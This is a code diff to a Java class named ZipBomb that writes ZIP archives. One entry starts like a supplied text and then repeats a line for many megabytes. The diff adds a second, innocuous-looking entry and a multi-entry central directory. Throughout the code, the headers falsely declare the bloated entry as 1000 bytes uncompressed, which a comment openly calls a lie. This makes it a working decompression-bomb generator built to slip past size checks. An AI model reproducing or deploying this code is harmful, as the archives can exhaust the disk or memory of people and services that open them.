@@ -5,7 +5,6 @@ import java.io.IOException;
 import java.io.OutputStream;
 import java.nio.ByteBuffer;
 import java.nio.ByteOrder;
-import java.util.Arrays;
 import java.util.zip.Deflater;
 
 /**
@@ -21,54 +20,64 @@ final class ZipBomb {
     private static final short SIZES_FOLLOW = 8;
 
     private final OutputStream out;
+    private final ByteArrayOutputStream directory = new ByteArrayOutputStream();
     private long offset;
+    private int entries;
 
     private ZipBomb(OutputStream out) {
         this.out = out;
     }
 
-    /** Begins as a text does, goes on with its last line for so many megabytes. */
-    static void write(OutputStream out, String name, String text, String line, int megabytes)
+    /** An entry begins as {@code text} does and goes on with {@code line}. */
+    static void write(
+            OutputStream out,
+            String name,
+            String text,
+            String line,
+            int megabytes,
+            String otherName,
+            byte[] other)
             throws IOException {
-        new ZipBomb(out).write(name.getBytes(BillWriter.GBK), text, line, megabytes);
+        var zip = new ZipBomb(out);
+        var block = line.repeat((1 << 20) / line.length() + 1).getBytes(BillWriter.GBK);
+        zip.entry(
+                name.getBytes(BillWriter.GBK),
+                deflated(text.getBytes(BillWriter.GBK)),
+                deflated(block),
+                megabytes);
+        zip.entry(otherName.getBytes(BillWriter.GBK), deflated(other), new byte[0], 0);
+        zip.end();
     }
 
-    private void write(byte[] name, String text, String line, int megabytes) throws IOException {
-        var block = line.repeat((1 << 20) / line.length() + 1).getBytes(BillWriter.GBK);
-        put(
-                buffer(30)
-                        .putInt(LOCAL)
-                        .putShort((short) 20)
-                        .putShort(SIZES_FOLLOW)
-                        .putShort((short) 8),
-                26);
-        // The last two shorts of the head: the name's length, and that nothing else follows it.
-        put(buffer(4).putShort((short) name.length).putShort((short) 0), 4);
+    private void entry(byte[] name, byte[] first, byte[] block, int times) throws IOException {
+        long head = offset;
+        var local = buffer(30).putInt(LOCAL).putShort((short) 20).putShort(SIZES_FOLLOW);
+        local.putShort((short) 8).position(26);
+        put(local.putShort((short) name.length).array());
         put(name);
         long start = offset;
-        put(deflated(text.getBytes(BillWriter.GBK)));
-        var compressed = deflated(block);
-        for (int i = 0; i < megabytes; i++) {
-            put(compressed);
+        put(first);
+        for (int i = 0; i < times; i++) {
+            put(block);
         }
         // An empty last block.
         put(new byte[] {3, 0});
         int size = (int) (offset - start);
         // What it says of itself is a lie: it would be small.
-        put(buffer(16).putInt(DESCRIPTOR).putInt(0).putInt(size).putInt(1000), 16);
-        long directory = offset;
+        put(buffer(16).putInt(DESCRIPTOR).putInt(0).putInt(size).putInt(1000).array());
         var central = buffer(46).putInt(CENTRAL).putShort((short) 20).putShort((short) 20);
         central.putShort(SIZES_FOLLOW).putShort((short) 8).putInt(0).putInt(0).putInt(size);
-        central.putInt(1000).putShort((short) name.length);
-        put(central, 46);
-        put(name);
-        var end = buffer(22).putInt(END).putInt(0).putShort((short) 1).putShort((short) 1);
-        end.putInt((int) (offset - directory)).putInt((int) directory);
-        put(end, 22);
+        central.putInt(1000).putShort((short) name.length).position(42);
+        directory.writeBytes(central.putInt((int) head).array());
+        directory.writeBytes(name);
+        entries++;
     }
 
-    private void put(ByteBuffer buffer, int length) throws IOException {
-        put(Arrays.copyOf(buffer.array(), length));
+    private void end() throws IOException {
+        long start = offset;
+        put(directory.toByteArray());
+        var end = buffer(22).putInt(END).putInt(0).putShort((short) entries);
+        put(end.putShort((short) entries).putInt(directory.size()).putInt((int) start).array());
     }
 
     private void put(byte[] bytes) throws IOException {
